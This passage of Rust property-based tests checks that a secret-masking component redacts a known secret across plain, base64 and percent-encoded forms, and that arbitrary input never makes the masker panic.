        let masker = Masker::new().with_exact([secret.clone()]);
        let secret = secret.trim();
        let plain = format!("{before}{secret}{after}");
        prop_assert!(!masker.mask_text(&plain).contains(secret));
        let core = STANDARD_NO_PAD.encode(secret);
        for encoded in [STANDARD.encode(secret), STANDARD_NO_PAD.encode(secret), URL_SAFE.encode(secret), URL_SAFE_NO_PAD.encode(secret)] {
            let masked = masker.mask_text(&encoded).into_owned();
            prop_assert_eq!(&masked, MASK);
        }
        let whole = STANDARD.encode(plain.as_bytes());
        let masked = masker.mask_text(&whole);
        prop_assert!(is_masked(&masked) && !masked.contains(&core), "{masked}");
        let mixed: String = secret.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect();
        prop_assert!(is_masked(&masker.mask_text(&mixed)), "{mixed}");
    }

    #[test]
    fn no_text_makes_it_panic(text in "(?s).{0,400}", noise in "[-a-z\"'\\\\:=\\[\\]{}()<>/@.| \\n]{0,300}") {
        let masker = Masker::new().with_exact(["an exact value".to_owned()]);
        let _ = masker.mask_text(&text);
        let _ = masker.mask_cut(&format!("key={noise}token:{text}"));
        let _ = masker.mask_text(&format!("{text}\"key\":{noise}{text}password: {noise}"));
    }
}
